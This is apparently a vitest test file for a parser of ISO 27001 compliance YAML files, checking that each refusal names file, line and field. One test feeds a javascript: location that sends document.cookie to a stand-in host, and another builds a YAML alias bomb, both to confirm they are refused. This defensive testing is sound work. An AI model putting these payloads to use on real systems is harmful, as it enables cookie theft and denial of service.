// The organisation file reader: the sample parses, and every refusal names the
// file, the line and the field (file:line: field: reason), sorted by line.
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { InputError } from '../lib/errors.ts';
import { OrgFileError, parseOrgFile } from '../lib/domain/org/org-file.ts';
import { readOrgFile } from '../lib/adapters/files/org-file-reader.ts';
import { RULE_IDS } from '../lib/domain/gaps/gap.ts';
import { tempDir } from './support/temp-dir.ts';

const SAMPLE = 'examples/acme-hk/org.yaml';

// A small valid file; the line numbers on the right are what the cases below refer to.
const BASE = [
  'organisation:', //                                            1
  '  id: kowloon-co', //                                         2
  '  name: Kowloon Co', //                                       3
  '  complianceContact: carol', //                               4
  'people:', //                                                  5
  '  - id: carol', //                                            6
  '    name: Carol Lam', //                                      7
  '    email: carol@kowloon.example', //                         8
  '  - id: owen', //                                             9
  '    name: 何安 Owen Ho', //                                   10
  '    email: owen@kowloon.example', //                          11
  '    language: zh-Hant', //                                    12
  '    manager: carol', //                                       13
  'controls:', //                                                14
  '  - id: A.5.15', //                                           15
  '    title: Access control', //                                16
  '    owner: owen', //                                          17
  '  - { id: a.8.13, title: Information backup, owner: carol }', // 18
  'evidence:', //                                                19
  '  - id: ev-1', //                                             20
  '    control: A.5.15', //                                      21
  '    title: Access review Q3', //                              22
  '    kind: access-review', //                                  23
  '    location: https://kowloon.example/ev/1', //               24
  '    collected: 2026-01-01', //                                25
  '    validUntil: 2026-12-31', //                               26
  '  - id: ev-2', //                                             27
  '    control: A.8.13', //                                      28
  '    title: 備份還原測試', //                                   29
  '    kind: restore-test', //                                   30
  '    location: s3://kowloon/ev/2.pdf', //                      31
  '    collected: 2026-01-31', //                                32
  '    validFor: P6M', //                                        33
  '    owner: owen', //                                          34
];

const text = (lines: string[]) => `${lines.join('\n')}\n`;
/** BASE with line n (1-based) replaced. */
const replaceLine = (n: number, line: string) => text(BASE.map((l, i) => (i === n - 1 ? line : l)));
/** BASE with lines inserted after line n. */
const insertAfter = (n: number, ...lines: string[]) => text([...BASE.slice(0, n), ...lines, ...BASE.slice(n)]);
/** BASE without line n. */
const deleteLine = (n: number) => text(BASE.filter((_, i) => i !== n - 1));

/** The problems reported for a file that must be refused. */
function problems(source: string, fileName = 'org.yaml'): string[] {
  try {
    parseOrgFile(source, fileName);
  } catch (error) {
    expect(error).toBeInstanceOf(OrgFileError);
    expect(error).toBeInstanceOf(InputError); // exit code 2, no stack trace, in the CLI
    const e = error as OrgFileError;
    expect(e.message).toBe(e.problems.join('\n'));
    return e.problems;
  }
  throw new Error('the file was accepted');
}

describe('parseOrgFile: valid files', () => {
  it('parses the sample organisation: 12 people, 32 controls (2 not applicable), 60 evidence items', () => {
    const org = readOrgFile(SAMPLE);
    expect(org.organisation.id).toBe('harbour-ledger');
    expect(org.organisation.sweep).toEqual({ dueSoonDays: 14, escalateAfterDays: 7, reminderEveryDays: 7 });
    expect(org.people).toHaveLength(12);
    expect(org.controls).toHaveLength(32);
    expect(org.controls.filter((c) => !c.applicable).map((c) => c.id)).toEqual(['A.7.5', 'A.7.12']);
    expect(org.organisation.review).toEqual({ dueDays: 30, remindBeforeDays: 7 });
    expect(org.organisation.timeZone).toBe('Asia/Hong_Kong');
    expect(org.evidence).toHaveLength(60);
    expect(org.evidence.filter((e) => e.retired).map((e) => e.id)).toEqual(['ev-005', 'ev-014']);
    expect(new Set(org.evidence.map((e) => e.id)).size).toBe(60);
  });

  it('turns validFor into validUntil (collected + period - 1 day) and drops validFor', () => {
    const org = readOrgFile(SAMPLE);
    const byId = new Map(org.evidence.map((e) => [e.id, e]));
    // ev-003: collected 2026-10-05, P3M -> 2027-01-05 minus one day.
    expect(byId.get('ev-003')).toMatchObject({ collected: '2026-10-05', validUntil: '2027-01-04' });
    expect(byId.get('ev-003')).not.toHaveProperty('validFor');
    // ev-023: collected 2026-10-31, P90D -> 1 (Oct) + 30 (Nov) + 31 (Dec) + 28 (Jan) = 90 days, the last being 2027-01-28.
    expect(byId.get('ev-023')?.validUntil).toBe('2027-01-28');
    // ev-033: collected 2024-12-14, P2Y -> 2026-12-13.
    expect(byId.get('ev-033')?.validUntil).toBe('2026-12-13');
    // An explicit validUntil is kept as written.
    expect(byId.get('ev-001')?.validUntil).toBe('2027-03-15');
  });

  it('applies defaults and normalises ids in the small file', () => {
    const org = parseOrgFile(text(BASE), 'org.yaml');
    expect(org.people.map((p) => p.language)).toEqual(['en', 'zh-Hant']);
    expect(org.controls.map((c) => c.id)).toEqual(['A.5.15', 'A.8.13']);
    expect(org.evidence.map((e) => e.retired)).toEqual([false, false]);
    expect(org.evidence[1]).toMatchObject({ title: '備份還原測試', owner: 'owen', collected: '2026-01-31', validUntil: '2026-07-30' });
    expect(org.evidence[0]?.owner).toBeUndefined();
  });
});

describe('parseOrgFile: refusals name file, line and field', () => {
  it('wrong type: a language that is not en or zh-Hant', () => {
    const [p, ...rest] = problems(replaceLine(12, '    language: fr'));
    expect(rest).toEqual([]);
    expect(p).toMatch(/^org\.yaml:12: people\[1\]\.language: /);
    expect(p).toMatch(/"en"/);
    expect(p).toMatch(/"zh-Hant"/);
  });

  it('wrong type: retired given as a string', () => {
    const [p, ...rest] = problems(insertAfter(26, '    retired: "yes"'));
    expect(rest).toEqual([]);
    expect(p).toMatch(/^org\.yaml:27: evidence\[0\]\.retired: .*boolean/);
  });

  it('wrong type: people not a list', () => {
    const [p, ...rest] = problems(text(['organisation:', '  id: k', '  name: K', '  complianceContact: carol', 'people: carol']));
    expect(rest).toEqual([]);
    expect(p).toMatch(/^org\.yaml:5: people: .*expected array/);
  });

  it('unknown control owner', () => {
    expect(problems(replaceLine(17, '    owner: nobody'))).toEqual(['org.yaml:17: controls[0].owner: unknown person "nobody"']);
  });

  it('unknown owner inside a flow mapping points at that line', () => {
    expect(problems(replaceLine(18, '  - { id: A.8.13, title: Information backup, owner: nobody }'))).toEqual([
      'org.yaml:18: controls[1].owner: unknown person "nobody"',
    ]);
  });

  it('unknown manager and unknown compliance contact', () => {
    expect(problems(replaceLine(13, '    manager: boss'))).toEqual(['org.yaml:13: people[1].manager: unknown person "boss"']);
    expect(problems(replaceLine(4, '  complianceContact: nobody'))).toEqual([
      'org.yaml:4: organisation.complianceContact: unknown person "nobody"',
    ]);
  });

  it('duplicate evidence id', () => {
    expect(problems(replaceLine(27, '  - id: ev-1'))).toEqual(['org.yaml:27: evidence[1].id: duplicate evidence id "ev-1"']);
  });

  it('duplicate person id', () => {
    expect(problems(insertAfter(13, '  - id: owen', '    name: Owen Ho Again', '    email: owen2@kowloon.example'))).toEqual([
      'org.yaml:14: people[2].id: duplicate person id "owen"',
    ]);
  });

  it('two people with one e-mail address (in any case): refused at the second, naming the first', () => {
    // Mail for one would reach the other, and monitoring tells people apart by the keyed hash of their address.
    expect(problems(replaceLine(11, '    email: Carol@Kowloon.example'))).toEqual(['org.yaml:11: people[1].email: already used by carol']);
  });

  it('bad date: 30 February', () => {
    expect(problems(replaceLine(25, '    collected: 2026-02-30'))).toEqual([
      'org.yaml:25: evidence[0].collected: must be a real date written YYYY-MM-DD',
    ]);
  });

  it('bad date: day/month/year', () => {
    expect(problems(replaceLine(26, '    validUntil: 31/12/2026'))).toEqual([
      'org.yaml:26: evidence[0].validUntil: must be a real date written YYYY-MM-DD',
    ]);
  });

  it('evidence for a control that is not in scope', () => {
    expect(problems(replaceLine(21, '    control: A.5.1'))).toEqual([
      'org.yaml:21: evidence[0].control: control "A.5.1" is not in scope (not listed under controls)',
    ]);
  });

  it('an unquoted control id that YAML reads as a number (5.10 would be 5.1) is refused with a hint', () => {
    expect(problems(replaceLine(15, '  - id: 5.10'))).toEqual([
      'org.yaml:15: controls[0].id: must be text such as "A.5.15" (write the "A." or quote the number)',
    ]);
  });

  it.each([
    ['A.5.38: theme 5 ends at 5.37', 15, '  - id: A.5.38', 'controls[0].id: "A.5.38" is not an ISO/IEC 27001:2022 Annex A control (A.5.1 to A.8.34)'],
    [
      'A.9.1: no theme 9 (a 2013 category, not a control)',
      21,
      '    control: A.9.1',
      'evidence[0].control: "A.9.1" is not an ISO/IEC 27001:2022 Annex A control (A.5.1 to A.8.34); A.9.1 was a 2013 category: write one of its controls (A.9.1.1, A.9.1.2) or the 2022 control',
    ],
    ['A.18.2.3: a 2013 control with several 2022 counterparts', 15, '  - id: A.18.2.3', 'controls[0].id: A.18.2.3 (2013) maps to several 2022 controls (A.5.36, A.8.8): write one of them'],
    [
      'A.12.4.9: three parts, but no 2013 control',
      21,
      '    control: A.12.4.9',
      'evidence[0].control: "A.12.4.9" is not an ISO/IEC 27001 Annex A control: not a 2022 control (A.5.1 to A.8.34) nor a 2013 one (A.5.1.1 to A.18.2.3)',
    ],
  ])('a control id that is refused: %s', (_case, line, replacement, problem) => {
    expect(problems(replaceLine(line, replacement))).toEqual([`org.yaml:${line}: ${problem}`]);
  });

  it('a 2013 control id is read as its 2022 control where that is one-to-one', () => {
    const org = parseOrgFile(replaceLine(15, '  - id: A.9.1.1').replace('    control: A.5.15', '    control: 9.1.2'), 'org.yaml');
    expect(org.controls.map((c) => c.id)).toEqual(['A.5.15', 'A.8.13']);
    expect(org.evidence.map((e) => e.control)).toEqual(['A.5.15', 'A.8.13']);
  });

  it('a 2013 id and its 2022 control listed together are one control, listed twice', () => {
    expect(problems(insertAfter(18, '  - { id: A.12.3.1, title: Backups, owner: carol }'))).toEqual(['org.yaml:19: controls[2].id: duplicate control "A.8.13"']);
  });

  it('validUntil before collected', () => {
    expect(problems(replaceLine(26, '    validUntil: 2025-12-31'))).toEqual([
      'org.yaml:26: evidence[0].validUntil: ends (2025-12-31) before it was collected (2026-01-01)',
    ]);
  });

  it('retiredOn without retired: true, or before the item was collected', () => {
    expect(problems(insertAfter(26, '    retiredOn: 2026-06-01'))).toEqual(['org.yaml:27: evidence[0].retiredOn: is given only with retired: true']);
    expect(problems(insertAfter(26, '    retired: true', '    retiredOn: 2025-12-31'))).toEqual(['org.yaml:28: evidence[0].retiredOn: 2025-12-31 is before it was collected (2026-01-01)']);
    expect(parseOrgFile(insertAfter(26, '    retired: true', '    retiredOn: 2026-06-01'), 'org.yaml').evidence[0]).toMatchObject({ retired: true, retiredOn: '2026-06-01' });
  });

  it('on import, evidence collected or retired after the organisation\'s today, in its time zone', () => {
    const file = insertAfter(33, '    retired: true', '    retiredOn: 2026-06-02');
    // 2026-06-01T16:30Z is already 2 June in Hong Kong (the file's default zone): both days are today.
    expect(parseOrgFile(file, 'org.yaml', new Date('2026-06-01T16:30:00Z')).evidence[1]).toMatchObject({ collected: '2026-01-31', retiredOn: '2026-06-02' });
    const refused = (now: string) => {
      try {
        parseOrgFile(file, 'org.yaml', new Date(now));
      } catch (error) {
        return (error as OrgFileError).problems;
      }
      throw new Error('the file was accepted');
    };
    expect(refused('2026-06-01T15:30:00Z')).toEqual(['org.yaml:35: evidence[1].retiredOn: 2026-06-02 is after today (2026-06-01 in Asia/Hong_Kong)']);
    // West of UTC-9 a date-only --now (09:00 UTC) is the day before there: that day's evidence is not refused.
    const honolulu = file.replace('organisation:\n  id: kowloon-co\n', 'organisation:\n  id: kowloon-co\n  timeZone: Pacific/Honolulu\n');
    expect(parseOrgFile(honolulu, 'org.yaml', new Date('2026-06-02T09:00:00Z'))).toMatchObject({ organisation: { timeZone: 'Pacific/Honolulu' }, evidence: [{}, { retiredOn: '2026-06-02' }] });
    expect(refused('2026-01-30T12:00:00Z')).toEqual([
      'org.yaml:32: evidence[1].collected: 2026-01-31 is after today (2026-01-30 in Asia/Hong_Kong)',
      'org.yaml:35: evidence[1].retiredOn: 2026-06-02 is after today (2026-01-30 in Asia/Hong_Kong)',
    ]);
  });

  it('both validUntil and validFor', () => {
    expect(problems(insertAfter(26, '    validFor: P1Y'))).toEqual(['org.yaml:27: evidence[0].validFor: give validUntil or validFor, not both']);
  });

  it('an evidence location a viewer would run rather than open (javascript:, data:) is refused at its line', () => {
    const why = 'must be a URI of one of the schemes https, http, s3, gs, file, smb (where a document is kept, not a script)';
    expect(problems(replaceLine(24, '    location: "javascript:fetch(`//x.example/`+document.cookie)"'))).toEqual([`org.yaml:24: evidence[0].location: ${why}`]);
    expect(problems(replaceLine(31, '    location: data:text/html,<script>alert(1)</script>'))).toEqual([`org.yaml:31: evidence[1].location: ${why}`]);
    expect(parseOrgFile(replaceLine(31, '    location: S3://kowloon/ev/2.pdf'), 'org.yaml').evidence[1]!.location).toBe('S3://kowloon/ev/2.pdf');
  });

  it('implementation: one of the four statuses, and only for an applicable control', () => {
    expect(parseOrgFile(insertAfter(17, '    implementation: planned'), 'org.yaml').controls[0]).toMatchObject({ id: 'A.5.15', implementation: 'planned' });
    expect(problems(insertAfter(17, '    implementation: done'))).toEqual([
      'org.yaml:18: controls[0].implementation: must be implemented, partial, planned or not-implemented',
    ]);
    expect(problems(replaceLine(18, '  - { id: a.8.13, title: Information backup, applicable: false, justification: none kept, implementation: implemented }'))).toEqual([
      'org.yaml:18: controls[1].implementation: is for an applicable control: one that does not apply is not implemented, leave it out',
      'org.yaml:28: evidence[1].control: control "A.8.13" is declared not applicable',
    ]);
  });

  it('a period that is not ISO-8601', () => {
    const [p, ...rest] = problems(replaceLine(33, '    validFor: 6 months'));
    expect(rest).toEqual([]);
    expect(p).toBe('org.yaml:33: evidence[1].validFor: must be an ISO-8601 period such as P1Y, P6M or P90D');
  });

  it('unknown field, at the line of that field', () => {
    expect(problems(insertAfter(7, '    phone: 2345 6789'))).toEqual(['org.yaml:8: people[0]: unknown field "phone"']);
    expect(problems(insertAfter(3, '  colour: red'))).toEqual(['org.yaml:4: organisation: unknown field "colour"']);
  });

  it('missing required field: "is required", at the line of the mapping it belongs in', () => {
    expect(problems(deleteLine(22))).toEqual(['org.yaml:20: evidence[0].title: is required']);
    expect(problems(deleteLine(8))).toEqual(['org.yaml:6: people[0].email: is required']);
  });

  it('duplicate YAML key is refused as a YAML error', () => {
    const all = problems(insertAfter(22, '    title: Access review Q3 again'));
    expect(all).toHaveLength(1);
    expect(all[0]).toMatch(/^org\.yaml:\d+: YAML: Map keys must be unique$/);
  });

  it('unclosed flow sequence is refused as a YAML error', () => {
    const all = problems(insertAfter(3, '  tags: [a, b'));
    expect(all.length).toBeGreaterThanOrEqual(1);
    expect(all[0]).toMatch(/^org\.yaml:\d+: YAML: Flow sequence .*end with a \]$/);
  });

  it('bad indentation is refused as a YAML error', () => {
    const all = problems(replaceLine(10, '   name: 何安 Owen Ho'));
    expect(all.length).toBeGreaterThanOrEqual(1);
    for (const p of all) expect(p).toMatch(/^org\.yaml:\d+: YAML: \S/);
  });

  // YAML syntax errors name the line where the parser found them.
  it('duplicate YAML key: reported at the line of the second key', () => {
    expect(problems(insertAfter(22, '    title: Access review Q3 again'))[0]).toMatch(/^org\.yaml:23: YAML: Map keys must be unique/);
  });

  it('unclosed flow sequence: reported at the line it opens or the next', () => {
    expect(problems(insertAfter(3, '  tags: [a, b'))[0]).toMatch(/^org\.yaml:[45]: YAML: Flow sequence/);
  });

  it('bad indentation: reported at the badly indented line', () => {
    expect(problems(replaceLine(10, '   name: 何安 Owen Ho'))[0]).toMatch(/^org\.yaml:10: YAML: /);
  });

  it('empty file', () => {
    expect(problems('')).toEqual(['org.yaml:1: (file): must be a mapping with organisation, people, controls and evidence']);
    expect(problems('# only a comment\n')).toEqual(['org.yaml:1: (file): must be a mapping with organisation, people, controls and evidence']);
  });

  it('a file that is a list, not a mapping', () => {
    expect(problems('- organisation: x\n- people: []\n')).toEqual([
      'org.yaml:1: (file): must be a mapping with organisation, people, controls and evidence',
    ]);
  });

  it('uses the file name it is given', () => {
    expect(problems(replaceLine(17, '    owner: nobody'), 'conf/hk.yaml')).toEqual(['conf/hk.yaml:17: controls[0].owner: unknown person "nobody"']);
  });

  it('reports several errors at once, sorted by line', () => {
    // Evidence comes first in this file, so zod (which checks organisation,
    // people, controls, evidence in that order) finds its problems last.
    const evidence = BASE.slice(18); // lines 19-34 of BASE
    const rest = BASE.slice(0, 18); // lines 1-18 of BASE
    const lines = [...evidence, ...rest];
    lines[6] = '    collected: 2026-02-30'; // line 7 (was BASE line 25)
    lines[15] = '    owner: nobody'; // line 16 (evidence[1].owner, was BASE line 34)
    lines[16 + 2] = '  name: '; // line 19: organisation.name empty
    lines[16 + 11] = '    language: fr'; // line 28 (was BASE line 12)
    const all = problems(text(lines));
    expect(all).toHaveLength(3); // cross-references (owner "nobody") are checked once each part is valid
    expect(all[0]).toBe('org.yaml:7: evidence[0].collected: must be a real date written YYYY-MM-DD');
    expect(all[1]).toMatch(/^org\.yaml:19: organisation\.name: /);
    expect(all[2]).toMatch(/^org\.yaml:28: people\[1\]\.language: /);
  });

  it('reports several cross-reference errors at once, sorted by line', () => {
    const source = text(
      BASE.map((l, i) => (i === 16 ? '    owner: nobody' : i === 26 ? '  - id: ev-1' : i === 20 ? '    control: A.5.1' : l)),
    );
    expect(problems(source)).toEqual([
      'org.yaml:17: controls[0].owner: unknown person "nobody"',
      'org.yaml:21: evidence[0].control: control "A.5.1" is not in scope (not listed under controls)',
      'org.yaml:27: evidence[1].id: duplicate evidence id "ev-1"',
    ]);
  });
});

describe('readOrgFile', () => {
  it('names the path when the file cannot be read', () => {
    const missing = path.join(tmpdir(), `no-such-dir-${process.pid}`, 'org.yaml');
    let caught: unknown;
    try {
      readOrgFile(missing);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(InputError);
    expect((caught as Error).message).toBe(`${missing}: cannot read: no such file`);
  });

  it('redacts identifiers its problems quote: an unknown owner, an unknown key', () => {
    const dir = tempDir('org-file-');
    const owner = path.join(dir, 'owner.yaml');
    writeFileSync(owner, replaceLine(34, '    owner: A1234563')); // an HKID number written without its brackets
    const key = path.join(dir, 'key.yaml');
    writeFileSync(key, insertAfter(3, '  A123456(3): x'));
    const problemsOf = (file: string) => {
      try {
        readOrgFile(file);
      } catch (error) {
        expect(error).toBeInstanceOf(OrgFileError);
        expect((error as Error).message).toBe((error as OrgFileError).problems.join('\n'));
        return (error as OrgFileError).problems;
      }
      throw new Error('the file was accepted');
    };
    const [ownerProblem] = problemsOf(owner);
    const [keyProblem] = problemsOf(key);
    expect(ownerProblem?.startsWith(`${owner}:34: evidence[1].owner: unknown person "`), ownerProblem).toBe(true);
    expect(keyProblem).toMatch(/:4: organisation: unknown field "/);
    for (const p of [ownerProblem, keyProblem]) {
      expect(p).not.toContain('A123456');
      expect(p).toContain('****'); // the mask, as in a finding
    }
  });

  it('reports problems with the path it read', () => {
    const dir = tempDir('org-file-');
    const file = path.join(dir, 'bad.yaml');
    writeFileSync(file, replaceLine(25, '    collected: 2026-02-30'));
    expect(() => readOrgFile(file)).toThrow(new OrgFileError([`${file}:25: evidence[0].collected: must be a real date written YYYY-MM-DD`]));
  });
});

describe('hostile organisation files', () => {
  const write = (name: string, content: string | Uint8Array) => {
    const file = path.join(tempDir('org-'), name);
    writeFileSync(file, content);
    return file;
  };

  it('refuses an alias bomb before expanding it, at the line of its first alias', () => {
    const levels = ['a: &a [x, x, x, x, x, x, x, x, x]'];
    for (const [i, name] of ['b', 'c', 'd', 'e', 'f', 'g', 'h'].entries()) {
      const prev = i === 0 ? 'a' : ['b', 'c', 'd', 'e', 'f', 'g'][i - 1];
      levels.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(', ')}]`);
    }
    // 63 aliases, under the count of 100, but 9^7 copies once expanded: this message comes only
    // from the expansion being stopped at 100 (expanded in full, the unknown fields a..h would be reported).
    expect(problems(`${text(BASE)}${levels.join('\n')}\n`)).toEqual([`org.yaml:${BASE.length + 2}: YAML: aliases (*name) that expand to more than 100 copies; write the values out`]);
  });

  it('refuses UTF-16 and bytes that are not UTF-8, naming the line', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text(BASE), 'utf16le')]);
    expect(() => readOrgFile(write('u16.yaml', utf16))).toThrow(/u16\.yaml:1: \(file\): must be UTF-8 text; this file is UTF-16 or UTF-32/);
    const latin1 = Buffer.from(replaceLine(7, '    name: Carol Lam caf\xe9'), 'latin1');
    expect(() => readOrgFile(write('latin1.yaml', latin1))).toThrow(/latin1\.yaml:7: \(file\): must be UTF-8 text; line 7 holds bytes that are not UTF-8/);
  });

  it('refuses a file over the size limit before reading it', () => {
    const big = write('big.yaml', `${text(BASE)}# ${'x'.repeat(4 * 1024 * 1024)}\n`);
    expect(() => readOrgFile(big)).toThrow(/big\.yaml: the file is \d+ bytes, more than the 4194304-byte limit for an organisation file; not read/);
  });

  it('refuses absurd periods and dates past 9999 instead of crashing', () => {
    expect(problems(replaceLine(33, '    validFor: P99999999999Y'))).toEqual(['org.yaml:33: evidence[1].validFor: must be at most 100 years']);
    expect(problems(replaceLine(25, '    collected: 9990-01-01').replace('validUntil: 2026-12-31', 'validFor: P20Y'))).toEqual(['org.yaml:26: evidence[0].validFor: runs past 9999-12-31']);
  });

  it('refuses managers who go round in a loop, once per loop', () => {
    const loop = insertAfter(8, '    manager: owen');
    expect(problems(loop)).toEqual(['org.yaml:9: people[0].manager: managers go round in a loop (carol -> owen -> carol): escalations would never reach anyone outside it']);
  });

  it('refuses strings longer than their limit, naming the field', () => {
    expect(problems(replaceLine(16, `    title: ${'x'.repeat(301)}`))).toEqual(['org.yaml:16: controls[0].title: must be at most 300 characters']);
    expect(problems(replaceLine(7, `    name: ${'名'.repeat(201)}`))).toEqual(['org.yaml:7: people[0].name: must be at most 200 characters']);
  });
});

describe('platforms, roles, groups and acceptances', () => {
  const PLATFORM = [
    'platforms:',
    '  - id: dingtalk-standard',
    '    name: DingTalk standard',
    '    storage: { region: cn-hangzhou, provider: alibaba }',
    '    e2ee: none',
    '    auditLog: none',
    '    externalSharing: open',
  ];
  const SOURCE = ['sources:', '  - { id: hr, name: HR chat, platform: dingtalk-standard, kind: chat-table, path: hr.csv }'];
  const withLines = (...lines: string[]) => `${text(BASE)}${[...PLATFORM, ...SOURCE, ...lines].join('\n')}\n`;
  const at = (offset: number) => BASE.length + offset; // line numbers after BASE

  it("accepts a source whose storage is its platform's", () => {
    const org = parseOrgFile(withLines(), 'org.yaml');
    expect(org.sources[0]?.storage).toEqual({ region: 'cn-hangzhou', provider: 'alibaba' });
    expect(org.platforms[0]).toMatchObject({ residencyChoice: false, siem: false });
  });

  it('declares encryption at rest and in transit on a platform (not declared: not claimed), refusing what is not true or false', () => {
    expect(parseOrgFile(withLines(), 'org.yaml').platforms[0]).toMatchObject({ e2ee: 'none', encryptionAtRest: false, encryptionInTransit: false });
    const declared = withLines().replace('    e2ee: none', '    e2ee: none\n    encryptionAtRest: true\n    encryptionInTransit: true');
    expect(parseOrgFile(declared, 'org.yaml').platforms[0]).toMatchObject({ e2ee: 'none', encryptionAtRest: true, encryptionInTransit: true });
    expect(problems(withLines().replace('    e2ee: none', '    e2ee: none\n    encryptionAtRest: AES-256'))).toEqual([`org.yaml:${at(6)}: platforms[0].encryptionAtRest: must be true or false`]);
  });

  it('refuses an unknown platform id, a bad capability value and an unknown role', () => {
    const unknownPlatform = withLines().replace('platform: dingtalk-standard, kind', 'platform: teams, kind');
    expect(problems(unknownPlatform)).toEqual([`org.yaml:${at(9)}: sources[0].platform: unknown platform "teams" (declared: dingtalk-standard)`]);
    expect(problems(withLines().replace('e2ee: none', 'e2ee: maybe'))).toEqual([`org.yaml:${at(5)}: platforms[0].e2ee: must be none, optional or default`]);
    expect(problems(replaceLine(8, '    email: carol@kowloon.example\n    role: boss'))).toEqual([
      'org.yaml:9: people[0].role: Invalid option: expected one of "management"|"hr"|"finance"|"it"|"legal"|"sales"|"operations"|"frontline"|"other"',
    ]);
  });

  it('refuses a group naming an unknown source or person', () => {
    const group = withLines('groups:', '  - { source: payroll, name: Payroll, owner: nobody, members: [carol, ghost] }');
    expect(problems(group)).toEqual([
      `org.yaml:${at(11)}: groups[0].source: unknown source "payroll"`,
      `org.yaml:${at(11)}: groups[0].owner: unknown person "nobody"`,
      `org.yaml:${at(11)}: groups[0].members[1]: unknown person "ghost"`,
    ]);
  });

  it('refuses an acceptance with no approver or no until, or naming no gap', () => {
    const accept = withLines('acceptances:', '  - { gap: "red-without-e2ee:source:hr", reason: Moving in Q1 }', '  - { gap: "no-such-rule:source:hr", reason: x, approvedBy: carol, until: 2027-01-01 }');
    expect(problems(accept)).toEqual([
      `org.yaml:${at(11)}: acceptances[0].approvedBy: is required: the person who approved accepting the risk`,
      `org.yaml:${at(11)}: acceptances[0].until: is required`,
      `org.yaml:${at(12)}: acceptances[1].gap: "no-such-rule:source:hr": "no-such-rule" is not a rule (rules: ${RULE_IDS.join(', ')})`,
    ]);
  });

  it('quotes a gap that is no rule at all once, not twice', () => {
    const accept = withLines('acceptances:', '  - { gap: "nonsense", reason: later, approvedBy: carol, until: 2027-03-31 }');
    expect(problems(accept)).toEqual([`org.yaml:${at(11)}: acceptances[0].gap: "nonsense" is not a rule (rules: ${RULE_IDS.join(', ')})`]);
  });

  it('refuses a region name providers use for different countries when neither provider nor country says which, naming the field, its line and both places', () => {
    const shared = withLines().replace('{ region: cn-hangzhou, provider: alibaba }', '{ region: eu-west-1 }');
    expect(problems(shared)).toEqual([
      `org.yaml:${at(4)}: platforms[0].storage.region: "eu-west-1" is a region of AWS in Ireland (IE) and of Alibaba Cloud in the United Kingdom (GB): give provider (aws or alibaba) or country to say which; where data is stored is never guessed`,
    ]);
    const source = `${text(BASE)}sources:\n  - id: crm\n    name: CRM export\n    platform: S3\n    kind: files\n    path: crm\n    storage: { region: me-central-1 }\n`;
    expect(problems(source)).toEqual([
      `org.yaml:${at(7)}: sources[0].storage.region: "me-central-1" is a region of AWS in the United Arab Emirates (AE) and of Alibaba Cloud in Saudi Arabia (SA): give provider (aws or alibaba) or country to say which; where data is stored is never guessed`,
    ]);
    // Either one says which; a name the providers share for one country needs neither.
    expect(parseOrgFile(shared.replace('{ region: eu-west-1 }', '{ region: eu-west-1, provider: alibaba }'), 'org.yaml').platforms[0]?.storage).toEqual({ region: 'eu-west-1', provider: 'alibaba' });
    expect(parseOrgFile(shared.replace('{ region: eu-west-1 }', '{ region: eu-west-1, country: IE }'), 'org.yaml').platforms[0]?.storage).toEqual({ region: 'eu-west-1', country: 'IE' });
    expect(parseOrgFile(shared.replace('{ region: eu-west-1 }', '{ region: ap-southeast-1 }'), 'org.yaml').platforms[0]?.storage).toEqual({ region: 'ap-southeast-1' });
  });

  it('refuses a source with no storage of its own on a free-text platform', () => {
    const bare = `${text(BASE)}sources:\n  - { id: hr, name: HR chat, platform: DingTalk, kind: chat-table, path: hr.csv }\n`;
    expect(problems(bare)).toEqual([`org.yaml:${at(2)}: sources[0].storage: is required (or declare the platform with its storage under platforms)`]);
  });
});
